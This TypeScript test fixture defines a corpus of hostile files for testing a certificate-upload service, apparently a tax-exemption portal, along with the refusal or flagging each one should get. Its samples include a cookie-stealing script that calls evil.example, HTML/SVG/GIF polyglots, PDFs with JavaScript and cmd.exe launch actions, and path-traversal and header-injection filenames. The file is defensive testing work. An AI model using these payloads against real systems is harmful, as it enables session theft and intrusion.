/**
 * Files an attacker uploads instead of a signed certificate, each with what must become of it:
 * refused with a 4xx, or stored as what its bytes are (then only ever served back as an
 * attachment of that type) and flagged when it is a PDF that acts when opened.
 */
import { deflateSync } from 'node:zlib';
import { certificateLimits, type CertificateFileContentType, type PdfActiveContentKind } from '@exemptions/shared';
import { samplePdf } from './portal.js';
import { tinyJpeg, tinyPng } from './hostileRequests.js';

export type CorpusCategory = 'wrong magic bytes' | 'markup named as a certificate' | 'polyglot' | 'oversized' | 'hostile name' | 'active content';

export type CorpusExpectation =
  /** Refused with a 4xx; `status` when every upload path answers the same (an empty file is 422 on the API, 400 on the portal's form). */
  | { readonly outcome: 'refused'; readonly status?: 413 | 415 }
  /** Stored as `contentType`; `activeContent` is the flag it must carry (none when absent). */
  | { readonly outcome: 'stored'; readonly contentType: CertificateFileContentType; readonly activeContent?: readonly PdfActiveContentKind[] };

export interface CorpusFile {
  readonly label: string;
  readonly category: CorpusCategory;
  readonly filename: string;
  /** What the uploader claims; never trusted. */
  readonly declaredType: string;
  readonly bytes: Buffer;
  readonly expect: CorpusExpectation;
  /** When the file comes in a multipart body written by hand (not a Stripe File) and that changes the outcome. */
  readonly expectInMultipart?: CorpusExpectation;
}

const refused415: CorpusExpectation = { outcome: 'refused', status: 415 };
const storedPdf: CorpusExpectation = { outcome: 'stored', contentType: 'application/pdf' };
const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

/** A PDF that differs from every other one, so no two corpus files are deduplicated into one. */
function uniquePdf(label: string, extra = ''): Buffer {
  return samplePdf(`% corpus: ${label}\n${extra}`);
}

/** A PDF of exactly `size` bytes, padded inside a comment. */
function pdfOfSize(size: number): Buffer {
  const bytes = Buffer.alloc(size, 0x20);
  samplePdf().copy(bytes);
  return bytes;
}

/** A PDF 1.5 whose JavaScript action sits inside a Flate-compressed object stream, invisible in the raw bytes. */
function pdfWithCompressedJavaScript(): Buffer {
  const objects = deflateSync(Buffer.from('4 0 << /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>', 'latin1'));
  const head = Buffer.from('%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n', 'latin1');
  const stream = Buffer.concat([Buffer.from(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`, 'latin1'), objects, Buffer.from('\nendstream\nendobj\n', 'latin1')]);
  return Buffer.concat([head, stream, Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1')]);
}

/** A JPEG with HTML in a comment segment (COM, 0xFFFE): a browser sniffing it as HTML would run the script. */
function jpegWithHtmlComment(): Buffer {
  const html = Buffer.from(`<html><body>${script}</body></html>`);
  const length = html.length + 2;
  return Buffer.concat([tinyJpeg.subarray(0, 20), Buffer.from([0xff, 0xfe, length >> 8, length & 0xff]), html, tinyJpeg.subarray(20)]);
}

export const uploadCorpus: readonly CorpusFile[] = [
  // Wrong magic bytes: the name and declared type say certificate, the bytes say otherwise.
  { label: 'ZIP archive named .pdf', category: 'wrong magic bytes', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(40, 1)]), expect: refused415 },
  { label: 'Windows executable named .pdf', category: 'wrong magic bytes', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(120)]), expect: refused415 },
  { label: 'ELF executable named .png', category: 'wrong magic bytes', filename: 'scan.png', declaredType: 'image/png', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(64)]), expect: refused415 },
  { label: 'GIF named .png', category: 'wrong magic bytes', filename: 'scan.png', declaredType: 'image/png', bytes: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), expect: refused415 },
  { label: 'WebP named .jpg', category: 'wrong magic bytes', filename: 'photo.jpg', declaredType: 'image/jpeg', bytes: Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1'), Buffer.alloc(24)]), expect: refused415 },
  { label: 'BMP named .png', category: 'wrong magic bytes', filename: 'scan.png', declaredType: 'image/png', bytes: Buffer.concat([Buffer.from('BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00', 'latin1'), Buffer.alloc(40)]), expect: refused415 },
  { label: 'plain text named .jpg', category: 'wrong magic bytes', filename: 'photo.jpg', declaredType: 'image/jpeg', bytes: Buffer.from('This is certainly a certificate.\n'), expect: refused415 },
  { label: 'PDF signature misspelt (%PDX)', category: 'wrong magic bytes', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.from(uniquePdf('misspelt').toString('latin1').replace('%PDF', '%PDX'), 'latin1'), expect: refused415 },
  { label: 'PNG signature cut short', category: 'wrong magic bytes', filename: 'scan.png', declaredType: 'image/png', bytes: Buffer.from('\x89PNG', 'latin1'), expect: refused415 },
  { label: 'random bytes named .pdf', category: 'wrong magic bytes', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.from(Array.from({ length: 256 }, (_, i) => (i * 73 + 41) % 256)), expect: refused415 },
  { label: 'empty file', category: 'wrong magic bytes', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.alloc(0), expect: { outcome: 'refused' } },

  // Markup: what a browser would render and run, dressed as a certificate.
  { label: 'HTML named .pdf', category: 'markup named as a certificate', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.from(`<!DOCTYPE html><html><body>${script}</body></html>`), expect: refused415 },
  { label: 'HTML named .pdf, with a byte-order mark and leading blanks', category: 'markup named as a certificate', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.from(`\uFEFF \n\t<html>${script}</html>`), expect: refused415 },
  { label: 'SVG with a script named .pdf', category: 'markup named as a certificate', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`), expect: refused415 },
  { label: 'SVG declared image/svg+xml, named .png', category: 'markup named as a certificate', filename: 'scan.png', declaredType: 'image/svg+xml', bytes: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), expect: refused415 },
  { label: 'XHTML named .jpg', category: 'markup named as a certificate', filename: 'photo.jpg', declaredType: 'image/jpeg', bytes: Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`), expect: refused415 },
  { label: 'JavaScript named .pdf', category: 'markup named as a certificate', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.from('fetch("https://evil.example/?c="+document.cookie)'), expect: refused415 },

  // Polyglots: valid as two formats at once. Those whose first bytes are a certificate format are
  // stored as that format, and must only ever be served back as it.
  { label: 'PDF header followed by HTML', category: 'polyglot', filename: 'certificate.pdf', declaredType: 'text/html', bytes: Buffer.from(`%PDF-1.4\n<html><body>${script}</body></html>\n%%EOF\n`), expect: storedPdf },
  { label: 'HTML followed by a PDF', category: 'polyglot', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.concat([Buffer.from(`<html>${script}</html>\n`), uniquePdf('html first')]), expect: refused415 },
  { label: 'GIF/JavaScript polyglot', category: 'polyglot', filename: 'certificate.png', declaredType: 'image/png', bytes: Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//', 'latin1'), expect: refused415 },
  { label: 'JPEG with HTML in a comment segment', category: 'polyglot', filename: 'photo.jpg', declaredType: 'text/html', bytes: jpegWithHtmlComment(), expect: { outcome: 'stored', contentType: 'image/jpeg' } },
  { label: 'PNG with HTML after its end', category: 'polyglot', filename: 'scan.png', declaredType: 'image/png', bytes: Buffer.concat([tinyPng, Buffer.from(`<html>${script}</html>`)]), expect: { outcome: 'stored', contentType: 'image/png' } },
  { label: 'PDF followed by a ZIP archive', category: 'polyglot', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: Buffer.concat([uniquePdf('pdf+zip'), Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(40, 2)]), expect: storedPdf },

  // Size: the limit is 10 MiB; exactly that is accepted.
  { label: 'PDF of exactly 10 MiB', category: 'oversized', filename: 'big.pdf', declaredType: 'application/pdf', bytes: pdfOfSize(certificateLimits.fileBytes), expect: storedPdf },
  { label: 'PDF of 10 MiB and one byte', category: 'oversized', filename: 'big.pdf', declaredType: 'application/pdf', bytes: pdfOfSize(certificateLimits.fileBytes + 1), expect: { outcome: 'refused', status: 413 } },
  { label: 'PDF of 11 MB', category: 'oversized', filename: 'huge.pdf', declaredType: 'application/pdf', bytes: pdfOfSize(11 * 1000 * 1000), expect: { outcome: 'refused', status: 413 } },

  // Names: the bytes are a fine PDF; the name is the attack.
  { label: 'path traversal (../)', category: 'hostile name', filename: '../../../../etc/passwd.pdf', declaredType: 'application/pdf', bytes: uniquePdf('traversal'), expect: storedPdf },
  { label: 'path traversal (..\\)', category: 'hostile name', filename: '..\\..\\windows\\system32\\evil.pdf', declaredType: 'application/pdf', bytes: uniquePdf('traversal windows'), expect: storedPdf },
  { label: 'absolute path', category: 'hostile name', filename: '/var/www/html/index.pdf', declaredType: 'application/pdf', bytes: uniquePdf('absolute'), expect: storedPdf },
  { label: 'percent-encoded traversal', category: 'hostile name', filename: '..%2F..%2Fetc%2Fpasswd', declaredType: 'application/pdf', bytes: uniquePdf('percent'), expect: storedPdf },
  {
    label: 'NUL byte before a second extension',
    category: 'hostile name',
    filename: 'certificate.pdf\u0000.html',
    declaredType: 'application/pdf',
    bytes: uniquePdf('nul'),
    expect: storedPdf,
    // A raw NUL is not allowed in a part's headers: the form is refused as malformed.
    expectInMultipart: { outcome: 'refused' },
  },
  { label: 'right-to-left override', category: 'hostile name', filename: 'invoice\u202Efdp.exe', declaredType: 'application/pdf', bytes: uniquePdf('rtl'), expect: storedPdf },
  { label: '300-character name', category: 'hostile name', filename: `${'a'.repeat(296)}.pdf`, declaredType: 'application/pdf', bytes: uniquePdf('long'), expect: storedPdf },
  {
    label: 'CR/LF and a header in the name',
    category: 'hostile name',
    filename: 'certificate.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
    declaredType: 'application/pdf',
    bytes: uniquePdf('crlf'),
    expect: storedPdf,
    // Raw in a part's headers, the line break ends the filename's quoted string early: the form is refused as malformed.
    expectInMultipart: { outcome: 'refused' },
  },
  { label: 'quotes and a second filename parameter', category: 'hostile name', filename: 'certificate.pdf"; filename="evil.html', declaredType: 'application/pdf', bytes: uniquePdf('quotes'), expect: storedPdf },
  { label: 'executable extension', category: 'hostile name', filename: 'certificate.pdf.exe', declaredType: 'application/pdf', bytes: uniquePdf('exe'), expect: storedPdf },
  { label: 'dot file', category: 'hostile name', filename: '.htaccess', declaredType: 'application/pdf', bytes: uniquePdf('dotfile'), expect: storedPdf },
  { label: 'only dots', category: 'hostile name', filename: '...', declaredType: 'application/pdf', bytes: uniquePdf('dots'), expect: storedPdf },

  // Active content: stored (fillable state forms do use JavaScript) and flagged.
  { label: 'PDF with a JavaScript open action', category: 'active content', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: uniquePdf('js', '4 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n'), expect: { outcome: 'stored', contentType: 'application/pdf', activeContent: ['javascript'] } },
  { label: 'PDF with JavaScript behind #-escapes (/J#61vaScript)', category: 'active content', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: uniquePdf('js escaped', '4 0 obj\n<< /S /J#61va#53cript /JS (1) >>\nendobj\n'), expect: { outcome: 'stored', contentType: 'application/pdf', activeContent: ['javascript'] } },
  { label: 'PDF with JavaScript in a compressed object stream', category: 'active content', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: pdfWithCompressedJavaScript(), expect: { outcome: 'stored', contentType: 'application/pdf', activeContent: ['javascript'] } },
  { label: 'PDF with a launch action', category: 'active content', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: uniquePdf('launch', '4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'), expect: { outcome: 'stored', contentType: 'application/pdf', activeContent: ['launch_action'] } },
  { label: 'PDF with an embedded file', category: 'active content', filename: 'certificate.pdf', declaredType: 'application/pdf', bytes: uniquePdf('embedded', '4 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream\nendobj\n'), expect: { outcome: 'stored', contentType: 'application/pdf', activeContent: ['embedded_file'] } },
];

/** The types a stored file may be served as: never anything a browser runs or renders as a page. */
export const servableTypes: readonly string[] = ['application/pdf', 'image/png', 'image/jpeg'];

// eslint-disable-next-line no-control-regex -- the point is to find control characters.
const unsafeInName = /[/\\\u0000-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

/** Why a stored file name is unsafe, or null: folders, controls, direction tricks, too long, or an extension that is not the type's. */
export function unsafeNameProblem(name: string, contentType: CertificateFileContentType): string | null {
  if (unsafeInName.test(name)) return `contains a folder separator, a control or a direction character: ${JSON.stringify(name)}`;
  if (name.length > certificateLimits.filenameLength) return `is ${name.length} characters long`;
  if (name.startsWith('.')) return 'starts with a dot';
  const extensions = contentType === 'application/pdf' ? ['.pdf'] : contentType === 'image/png' ? ['.png'] : ['.jpg', '.jpeg'];
  if (!extensions.some((extension) => name.toLowerCase().endsWith(extension))) return `does not end in ${extensions.join(' or ')}: ${JSON.stringify(name)}`;
  return null;
}
